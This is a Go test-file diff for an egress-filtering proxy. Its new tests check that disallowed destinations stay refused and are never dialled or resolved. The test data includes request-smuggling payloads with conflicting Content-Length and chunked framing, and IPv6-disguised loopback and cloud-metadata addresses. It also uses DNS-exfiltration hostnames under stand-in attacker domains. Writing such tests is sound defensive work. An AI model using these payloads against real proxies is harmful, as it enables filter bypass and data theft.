@@ -6,11 +6,13 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"log/slog"
 	"net"
 	"net/http"
 	"net/netip"
 	"path/filepath"
 	"runtime"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -26,6 +28,7 @@ type world struct {
 	upstream string // the upstream's real address
 	mu       sync.Mutex
 	dialed   []string
+	resolved []string
 }
 
 func newWorld(t *testing.T, p *Proxy, upstream http.Handler) *world {
@@ -44,6 +47,9 @@ func newWorld(t *testing.T, p *Proxy, upstream http.Handler) *world {
 	p.Log = w.log
 	p.Own = []netip.Addr{netip.MustParseAddr("192.0.2.2")}
 	p.Resolve = func(_ context.Context, name string) ([]netip.Addr, error) {
+		w.mu.Lock()
+		w.resolved = append(w.resolved, name)
+		w.mu.Unlock()
 		if a, ok := dns[name]; ok {
 			return []netip.Addr{netip.MustParseAddr(a)}, nil
 		}
@@ -297,3 +303,123 @@ func TestProxySlowAndMany(t *testing.T) {
 		t.Errorf("the third connection was not served once a slot was free: %q", line)
 	}
 }
+
+// TestProxyPipelinedAndDisguised: an allowed request first, then on the
+// same connection a request for a host that is not allowed (pipelined
+// in one write, or hidden in the first's body by conflicting framing),
+// and addresses spelled as IPv6 forms of a refused IPv4 one: each
+// destination is checked on its own and nothing but the allowed host is
+// dialled or even looked up in DNS.
+func TestProxyPipelinedAndDisguised(t *testing.T) {
+	t.Parallel()
+	rules, err := ParseRules("allowed.test")
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := newWorld(t, &Proxy{Rules: rules}, echoHost())
+	pipelined := "GET http://allowed.test/a HTTP/1.1\r\nHost: allowed.test\r\n\r\n" +
+		"GET http://evil.test/b HTTP/1.1\r\nHost: allowed.test\r\n\r\n" +
+		"CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n"
+	smuggled := "POST http://allowed.test/a HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n" +
+		"0\r\n\r\nGET http://evil.test/c HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+	for _, tc := range []struct {
+		name, req string
+		want      []string // status code of each response, in order
+	}{
+		// A refusal closes the connection: the CONNECT after it is never read.
+		{"pipelined after an allowed request", pipelined, []string{"200", "403"}},
+		// Chunked framing wins (RFC 9112 6.3): the hidden request is a
+		// request of its own, checked like any other.
+		{"smuggled by Content-Length and chunked framing", smuggled, []string{"200", "403"}},
+		// Not HTTP at all: a TLS hello meant for some server, an SSH
+		// banner, a SOCKS5 greeting.
+		{"TLS hello", "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03evil.test\r\n\r\n", []string{"400"}},
+		{"SSH banner", "SSH-2.0-OpenSSH_9.6\r\n\r\n", []string{"400"}},
+		{"SOCKS5 greeting", "\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x01\xbb\r\n\r\n", []string{"400"}},
+	} {
+		c, err := net.Dial("unix", w.sock)
+		if err != nil {
+			t.Fatal(err)
+		}
+		c.SetDeadline(time.Now().Add(3 * time.Second))
+		io.WriteString(c, tc.req)
+		br := bufio.NewReader(c)
+		var got []string
+		for range len(tc.want) + 1 {
+			resp, err := http.ReadResponse(br, &http.Request{Method: http.MethodGet})
+			if err != nil {
+				break
+			}
+			io.ReadAll(resp.Body)
+			resp.Body.Close()
+			got = append(got, strconv.Itoa(resp.StatusCode))
+		}
+		c.Close()
+		if strings.Join(got, " ") != strings.Join(tc.want, " ") {
+			t.Errorf("%s: statuses %v, want %v", tc.name, got, tc.want)
+		}
+	}
+	for _, addr := range []string{"[::ffff:127.0.0.1]:443", "[::ffff:7f00:1]:443", "[::ffff:169.254.169.254]:80", "[64:ff9b::7f00:1]:443", "[::1]:443", "[fe80::1%25lo]:443"} {
+		if status, rest := w.raw(t, "CONNECT "+addr+" HTTP/1.1\r\n\r\n"); strings.Contains(status, " 200 ") {
+			t.Errorf("CONNECT %s went through: %s\n%s", addr, status, rest)
+		}
+	}
+	for _, d := range w.dials() {
+		if d != "203.0.113.10:80" {
+			t.Errorf("the proxy dialed %s", d)
+		}
+	}
+	// A name not allowed is never looked up: a DNS query for
+	// <data>.attacker.example would carry data to attacker.example's
+	// name servers without a connection.
+	w.raw(t, "CONNECT c2VjcmV0.exfil.example:443 HTTP/1.1\r\n\r\n")
+	w.raw(t, "GET http://c2VjcmV0.exfil.example/ HTTP/1.1\r\nHost: x\r\n\r\n")
+	w.mu.Lock()
+	resolved := append([]string(nil), w.resolved...)
+	w.mu.Unlock()
+	for _, name := range resolved {
+		if name != "allowed.test" {
+			t.Errorf("the proxy looked up %s, which is not allowed", name)
+		}
+	}
+	refused := fmt.Sprint(w.log.Refusals())
+	if !strings.Contains(refused, "evil.test:80 (2 times)") {
+		t.Errorf("the pipelined refusals were not recorded: %s", refused)
+	}
+}
+
+// TestProxyRefusalsLoggedOnce: an agent retries a refused destination in
+// a loop and sprays hundreds of others: planex's log gets one warning per
+// destination it keeps (and one for the rest), not one per request,
+// while the counts stay exact.
+func TestProxyRefusalsLoggedOnce(t *testing.T) {
+	t.Parallel()
+	var logged strings.Builder
+	var mu sync.Mutex
+	logger := slog.New(slog.NewTextHandler(writerFunc(func(b []byte) (int, error) {
+		mu.Lock()
+		defer mu.Unlock()
+		return logged.Write(b)
+	}), nil))
+	w := newWorld(t, &Proxy{Logger: logger}, echoHost())
+	for i := 0; i < 300; i++ {
+		w.raw(t, "CONNECT evil.test:443 HTTP/1.1\r\n\r\n")
+	}
+	for i := 0; i < 2*maxDistinct; i++ {
+		w.raw(t, fmt.Sprintf("CONNECT h%d.evil.test:443 HTTP/1.1\r\n\r\n", i))
+	}
+	mu.Lock()
+	lines := strings.Count(logged.String(), "egress refused")
+	mu.Unlock()
+	if lines > maxDistinct+1 {
+		t.Errorf("%d warnings for %d refusals of %d destinations, want at most %d", lines, 300+2*maxDistinct, 1+2*maxDistinct, maxDistinct+1)
+	}
+	rs := w.log.Refusals()
+	if len(rs) == 0 || rs[0].Host != "evil.test" || rs[0].Count != 300 {
+		t.Errorf("the retried destination's count is not exact: %v", rs)
+	}
+}
+
+type writerFunc func([]byte) (int, error)
+
+func (f writerFunc) Write(b []byte) (int, error) { return f(b) }
